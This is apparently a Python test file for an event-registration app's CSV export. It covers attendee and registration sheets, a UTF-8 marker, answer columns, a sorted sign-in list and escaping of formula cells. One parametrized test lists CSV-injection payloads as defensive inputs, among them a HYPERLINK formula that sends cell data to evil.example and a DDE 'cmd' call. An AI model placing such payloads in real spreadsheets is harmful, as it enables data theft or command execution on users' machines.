"""Exports: tables that open in Excel as they are, and run nothing."""

import csv
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailflow import export
from mailflow.model import Registration, Status

from .readings import registration


def rows(sheet: str) -> list[dict[str, str]]:
    return list(csv.DictReader(sheet.removeprefix("\ufeff").splitlines()))


def attendees(
    *registrations: Registration, fields: tuple[str, ...] = ()
) -> list[dict[str, str]]:
    return rows(export.as_csv(export.attendees(registrations, fields)))


def test_every_line_is_one_attendee() -> None:
    entry = registration("Ана Анић", "Бора Борић", city="Ниш")

    assert [(row["reference"], row["name"], row["city"]) for row in attendees(entry)] == [
        (entry.reference, "Ана Анић", "Ниш"),
        (entry.reference, "Бора Борић", "Ниш"),
    ]


def test_every_line_of_the_other_sheet_is_one_registration() -> None:
    sheet = rows(export.as_csv(export.registrations([registration("Ана Анић", "Бора Борић")])))

    assert [row["attendees"] for row in sheet] == ["Ана Анић; Бора Борић"]
    assert sheet[0]["contact_email"] == "ana@breza.example"


def test_excel_is_told_that_it_is_utf_8() -> None:
    assert export.as_csv(export.attendees([])).encode().startswith(b"\xef\xbb\xbfreference,")


def test_an_attendee_of_a_cancelled_registration_is_cancelled() -> None:
    assert attendees(registration(status=Status.CANCELLED))[0]["status"] == "cancelled"


def test_a_guest_of_another_organisation_keeps_it() -> None:
    entry = registration()
    guest = replace(entry.attendees[0], organisation="Јела")

    assert attendees(replace(entry, attendees=(guest,)))[0]["organisation"] == "Јела"


@pytest.mark.parametrize(
    "evil",
    [
        '=HYPERLINK("http://evil.example?d="&A2,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u200b=1",
        "\u202e=1",
        "\u00a0=1",
        "＝1",
        "＋1",
        "－1",
        "＠A",
        "|x",
        "%x",
        "+381641234567;=1",
        "+٣٨١٦٤١٢٣٤٥",
    ],
)
def test_no_cell_is_a_formula(evil: str) -> None:
    entry = registration(evil, organisation=evil, city=evil)
    row = attendees(entry)[0]

    assert {row["name"][0], row["organisation"][0], row["city"][0]} == {"'"}


@pytest.mark.parametrize("phone", ["+381641234567", "+38111234567"])
def test_a_telephone_number_stays_usable(phone: str) -> None:
    entry = registration()
    called = replace(entry.attendees[0], phone=phone)

    assert attendees(replace(entry, attendees=(called,)))[0]["phone"] == phone


@pytest.mark.parametrize("plain", ["Ана-Марија", "д.о.о.", "1. април", "Анић, Ана", 'А "Б" В'])
def test_ordinary_words_stay_as_they_are(plain: str) -> None:
    assert attendees(registration(plain))[0]["name"] == plain


@given(st.text(max_size=80))
def test_any_text_at_all_stays_in_its_cell(text: str) -> None:
    sheet = export.as_csv(
        export.registrations([registration(city=text), registration(city="Ниш")])
    )

    assert [row["city"] for row in rows(sheet)][1:] == ["Ниш"]


DIET = (("diet", "vegan"),)


def test_answers_have_a_column_each_and_a_persons_own_comes_first() -> None:
    entry = registration("Ана Анић", "Бора Борић")
    ana, bora = entry.attendees
    entry = replace(
        entry,
        answers=(("arrival", "10 h"), ("diet", "any")),
        attendees=(replace(ana, answers=DIET), bora),
    )

    told = attendees(entry, fields=("diet", "arrival"))

    assert [(row["diet"], row["arrival"]) for row in told] == [
        ("vegan", "10 h"),
        ("any", "10 h"),
    ]


def test_the_row_of_a_registration_tells_whose_answer_it_is() -> None:
    entry = registration("Ана Анић")
    entry = replace(entry, attendees=(replace(entry.attendees[0], answers=DIET),))

    [row] = rows(export.as_csv(export.registrations([entry], ("diet",))))

    assert row["diet"] == "Ана Анић: vegan"


def test_a_field_called_like_a_column_does_not_hide_it() -> None:
    entry = replace(registration("Ана Анић", city="Ниш"), answers=(("city", "Београд"),))

    [row] = attendees(entry, fields=("city",))

    assert (row["city"], row["answers.city"]) == ("Ниш", "Београд")


def test_the_sheet_for_the_door_is_sorted_by_surname_without_who_does_not_come() -> None:
    entry = registration("Ана Шарић", "Бора Борић", "Вера Верић")
    people = (*entry.attendees[:2], replace(entry.attendees[2], status=Status.WAITING))

    table = export.sign_in([replace(entry, attendees=people)])

    assert [row[:2] for row in table.rows] == [("1", "Бора Борић"), ("2", "Ана Шарић")]
